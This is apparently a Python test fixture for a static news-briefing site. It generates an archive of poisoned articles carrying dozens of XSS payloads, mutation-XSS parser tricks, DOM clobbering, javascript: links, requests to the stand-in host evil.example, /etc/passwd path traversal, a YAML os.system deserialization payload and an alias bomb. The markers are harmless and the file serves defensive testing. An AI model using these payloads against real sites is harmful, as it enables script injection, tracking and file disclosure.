"""Hostile copy of our own: what a poisoned article, or a pull request of a stranger, might hold.

Whatever runs sets ``window.__pwned`` to the name of its payload; whatever phones home asks ``evil.example``.
"""

from __future__ import annotations

import json

RUN = "window.__pwned=/{}/"
"""Without a quote, so that it fits into any."""


def breakout(name: str) -> str:
    """Return a text that tries to get out of whatever it is put into: attribute, element, title, script, template."""
    run = RUN.format(name)
    return (
        f'{name} zebraquagga "><img src=x onerror="{run}"> \'><svg onload={run}> </title></script><script>{run}</script>'
        f' --> " autofocus onfocus="{run}" &lt;img src=x onerror={run}&gt; <mark>{{{{7*191}}}} {{% raw %}} javascript:{run}'
    )


# Text in the body of a briefing, each in one of its own: what one swallows must not hide the next.
BODIES = {
    # Scripts and handlers
    "script": "<script>{run}</script>",
    "script-in-svg": "<svg><script>{run}</script></svg>",
    "svg-onload": '<svg onload="{run}"></svg>',
    "img-onerror": "text <img src=x onerror='{run}'> text",
    "img-slash": "text <img/src=x/onerror={run}> text",
    "details-ontoggle": "<details open ontoggle='{run}'><summary>s</summary>t</details>",
    "input-autofocus": "<input autofocus onfocus='{run}'>",
    "body-onload": "<body onload='{run}'>",
    "video-onerror": "<video src=x onerror='{run}'></video><audio src=x onerror='{run}'></audio>",
    "marquee-onstart": "<marquee onstart='{run}'>m</marquee>",
    "unknown-element": "<x tabindex=1 onfocus='{run}' autofocus>x</x>",
    "animate": "<svg><animate onbegin='{run}' attributeName=x dur=1s></svg>",
    "nested-script": "<scr<script>ipt>{run}</scr</script>ipt>",
    "unclosed": "<img src=x onerror='{run}' ",
    "comment": "<!--><img src=x onerror='{run}'>--> <!-- --!><img src=x onerror='{run}'> -->",
    "processing": "<?x ><img src=x onerror='{run}'>?> <![CDATA[><img src=x onerror='{run}'>]]>",
    # What two parsers read differently
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\"></noscript>",
    "mathml-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "svg-style": '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "form-math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "template": "<div><template shadowrootmode=open><img src=x onerror='{run}'></template></div>",
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror='{run}'>\"></xmp>",
    "textarea": "<textarea></textarea><img src=x onerror='{run}'>",
    # Frames and plug-ins
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:parent.{run}"></iframe>',
    "object": '<object data="data:text/html,<script>parent.{run}</script>"></object><embed src="https://evil.example/e">',
    # Addresses that are scripts, in disguise
    "link": "[click](javascript:{run})",
    "link-case": "[click](JaVaScRiPt:{run})",
    "link-entity": "[click](&#106;avascript:{run}) [click](javascript&colon;{run}) [click](java&#x09;script:{run})",
    "link-angle": "[click](<java\tscript:{run}>) [click](< javascript:{run}>) [click](<\x01javascript:{run}>)",
    "link-percent": "[click](%6Aavascript:{run}) [click](javascript%3A{run})",
    "link-reference": "[click][r] and [r]\n\n[r]: javascript:{run}",
    "link-auto": "<javascript:{run}> <data:text/html,x>",
    "link-vbscript": "[click](vbscript:{run}) [click](data:text/html;base64,PHNjcmlwdD4x) [click](blob:x)",
    "link-title": '[click](https://example.org/ "a\\" onmouseover=\'{run}\' b")',
    "image-alt": '![a" onerror="{run}](x.png) ![a](x.png" onerror="{run})',
    "anchor": '<a href="jav&#x09;ascript:{run}">click</a> <a href=" &#14; javascript:{run}">click</a>',
    "anchor-svg": '<svg><a xlink:href="javascript:{run}"><text y=9>click</text></a></svg><math href="javascript:{run}">m</math>',
    "form": '<form action="javascript:{run}"><button formaction="javascript:{run}">go</button></form>',
    # Requests to another host
    "remote-image": "![p](https://evil.example/1.gif) ![p](//evil.example/2.gif) ![p](/\\evil.example/3.gif)",
    "remote-raw": "<img src=https://evil.example/4.gif> <img srcset='https://evil.example/5.gif 2x'> "
    "<video poster=https://evil.example/6.gif></video> <input type=image src=https://evil.example/7.gif>",
    "remote-style": "<style>@import 'https://evil.example/8.css'; body {{display: none}}</style>",
    "remote-link": "<link rel=stylesheet href=https://evil.example/9.css><link rel=prefetch href=https://evil.example/10>",
    "style-attribute": "<p style='position:fixed;inset:0;background:url(https://evil.example/11.gif)'>over all</p>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/12'>",
    "base": "<base href=https://evil.example/>",
    "legacy": "<table background=https://evil.example/13.gif><tr><td>t</td></tr></table><a href=x ping=https://evil.example/14>p</a>",
    # Furniture of the page, taken over
    "clobber-ids": '<div id=search-dialog data-search>d</div><a id=__search>s</a><p id="__config">c</p><b id=briefings-content>b</b>',
    "clobber-names": "<form name=location></form><img name=documentElement><form id=x><input name=attributes></form>",
    "clobber-data": "<dialog open data-search data-search-input>d</dialog><button data-search-open data-scheme-toggle>b</button>",
    "clobber-search": '<p data-pagefind-body data-pagefind-filter="tag:stolen">p</p><meta data-pagefind-filter="tag[content]" content=stolen>',
    "clobber-heading": "## search-dialog\n\n## __search\n\n[up](#__search)",
    # Markdown, and what other tools make of it
    "attr-list": '# H {{: onmouseover="{run}" style="position:fixed" }}\n\nhello\n{{: onclick="{run}" }}',
    "code-heading": "## Code `<img src=x onerror={run}>` <img src=x onerror={run}>",
    "fence": '```"><img/src/onerror="{run}">\n<script>{run}</script>\n```',
    "table": "| a | b |\n| --- | --- |\n| <img src=x onerror={run}> | [c](javascript:{run}) |",
    "footnote": 'word[^1] and[^"><img src=x onerror={run}>]\n\n[^1]: <img src=x onerror={run}> [c](javascript:{run})\n'
    '[^"><img src=x onerror={run}>]: note',
    "abbreviation": 'AB here\n\n*[AB]: "><img src=x onerror="{run}">',
    "snippet": '--8<-- "/etc/passwd"\n\n!!! note "<img src=x onerror={run}>"\n    x',
    "mermaid": '```mermaid\ngraph TD\n A["<img src=x onerror={run}>"]\n click A "javascript:{run}"\n```',
    "url-that-is-none": "[a](http://[) <http://[>",
    "controls": "\u202eright to left\u202c [a](java\u200bscript:{run}) \x0b <img\x0csrc=x\x0conerror={run}>",
}

# Shown as they were written: nothing of them is markup to anybody.
SHOWN = {
    "templates": "{{ 1338-1 }} {% for x in config %}{{ x }}{% endfor %} {# gone? #} ${1338-1} #{1338-1}",
    "code": "`<script>window.__pwned=1</script>` and `{{ 7*191 }}`",
    "entities": "&lt;img src=x onerror=window.__pwned=/entities/&gt; &amp;lt;b&amp;gt; &#60;i&#62;",
}
SHOWN_TEXT = {
    "templates": SHOWN["templates"],
    "code": "<script>window.__pwned=1</script> and {{ 7*191 }}",
    "entities": "<img src=x onerror=window.__pwned=/entities/> &lt;b&gt; <i>",
}

# Files that must not be published at all, and the code of what is said about them.
REFUSED = {
    "02/01-javascript-url.md": "title: refused\ndate: 2024-02-01\nurl: 'javascript:window.__pwned=1'",
    "02/02-breakout-url.md": "title: refused\ndate: 2024-02-02\nurl: 'https://a.example/\"><script>window.__pwned=1</script>'",
    "02/03-breakout-language.md": "title: refused\ndate: 2024-02-03\nlanguage: 'en\" onload=\"window.__pwned=1'",
    "02/04-breakout-tag.md": "title: refused\ndate: 2024-02-04\ntags: ['\"><svg onload=window.__pwned=1>', '../../../up']",
    "02/05-breakout-outlet.md": "title: refused\ndate: 2024-02-05\noutlet: '../../../up'",
    "02/06-template.md": "title: refused\ndate: 2024-02-06\ntemplate: ../../../../etc/passwd",
    "02/07-object.md": 'title: !!python/object/apply:os.system ["true"]\ndate: 2024-02-07',
    "02/08-alias-bomb.md": "title: refused\ndate: 2024-02-08\nbyline: &a [x, x]\nother_stories: [*a, *a]",
    '02/09-"><img src=x onerror=window.__pwned=1>.md': "title: refused\ndate: 2024-02-09",
    "02/10-..md": "title: refused\ndate: 2024-02-10",
}

FIELDS = ("title", "description", "byline", "dateline", "standfirst", "source", "via", "where", "caption", "credit", "alt",
          "headline beside", "correction", "reason", "tag", "alias", "outlet", "carrier")  # fmt: skip


def archive() -> dict[str, str]:
    """Return the texts of the archive, by path."""
    texts = {
        "briefings/tags.yml": _yaml({
            "evil": {"label": {"en": breakout("tag")}, "aliases": [breakout("alias")], "kind": "topic"},
            "plain": {"label": {"en": "plain"}, "kind": "topic"},
        }),
        "briefings/outlets.yml": _yaml({
            "evil-post": {"name": breakout("outlet"), "kind": "newspaper"},
            "evil-wire": {"name": breakout("carrier"), "kind": "agency"},
            "plain-news": {"name": "Plain News", "kind": "newspaper"},
        }),
        "briefings/media/evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN.format("media")}"/>',
        "briefings/media/evil.html": f"<script>{RUN.format('media')}</script>",
        "briefings/2024/12/01-fields.md": _briefing(_fields(), "A lede.\n"),
        "briefings/2024/12/02-withdrawn.md": _briefing(
            {"title": breakout("title"), "date": "2024-12-02", "status": "withdrawn", "reason": breakout("reason")}, "W.\n"
        ),
        "briefings/2024/12/03-mentions.md": _briefing(
            {"title": "It mentions the fields", "date": "2024-12-03", "tags": ["evil"], "outlet": "plain-news"},
            "A lede.\n\n## Background\n\n"
            f"- **2024-12-01** — The fields, said <img src=x onerror={RUN.format('background')}> {{{{1338-1}}}}. "
            "[Briefing](01-fields.md)\n"
            f'- **2023-12?** — "><script>{RUN.format("item")}</script>\n'
            f"    - [child](javascript:{RUN.format('child')})\n",
        ),
    }  # fmt: skip
    for number, (name, body) in enumerate({**BODIES, **SHOWN}.items()):
        day = 1 + number % 28
        month = 3 + number // 28
        text = body.format(run=RUN.format(name)) if name in BODIES else body
        texts[f"briefings/2024/{month:02}/{day:02}-{name}.md"] = _briefing(
            {"title": f"Body {name}", "date": f"2024-{month:02}-{day:02}", "tags": ["plain"], "outlet": "plain-news"},
            f"Before it stand a few words.\n\n{text}\n",
        )
    for name, head in REFUSED.items():
        texts[f"briefings/2024/{name}"] = f"---\n{head}\n---\nrefused copy\n"
    return texts


def _fields() -> dict[str, object]:
    return {
        "title": breakout("title"),
        "description": breakout("description"),
        "date": "2024-12-01",
        "outlet": "evil-post",
        "byline": [breakout("byline")],
        "dateline": breakout("dateline"),
        "standfirst": breakout("standfirst"),
        "url": "https://example.org/?a='onmouseover='window.__pwned=1'&b=%22%3E",
        "carried_by": [{"outlet": "evil-wire", "url": "https://example.org/?x=1&y=;javascript:2"}],
        "archived": [{"url": "https://example.org/?x=1&y=;javascript:3", "date": "1970-01-01"}],
        "language": "en",
        "attribution": [
            {
                "name": breakout("source"),
                "kind": "anonymous",
                "count": 3,
                "via": breakout("via"),
                "where": breakout("where"),
            }
        ],
        "tags": ["evil"],
        "images": [
            {"file": "evil.png", "caption": breakout("caption"), "credit": breakout("credit"), "alt": breakout("alt")},
            {"file": 'x" onerror="window.__pwned=1.png', "caption": "breaks out of its address"},
            {"file": "../../../../etc/passwd", "caption": "climbs"},
            {"file": "//evil.example/15.gif", "caption": "leaves"},
        ],
        "other_stories": [breakout("headline beside")],
        "corrections": [{"date": "2024-12-05", "text": breakout("correction")}],
    }


def _briefing(head: dict[str, object], body: str) -> str:
    return f"---\n{_yaml(head)}---\n{body}"


def _yaml(mapping: dict[str, object]) -> str:
    """Return a mapping as YAML, each value as JSON, which YAML reads, too."""
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in mapping.items())
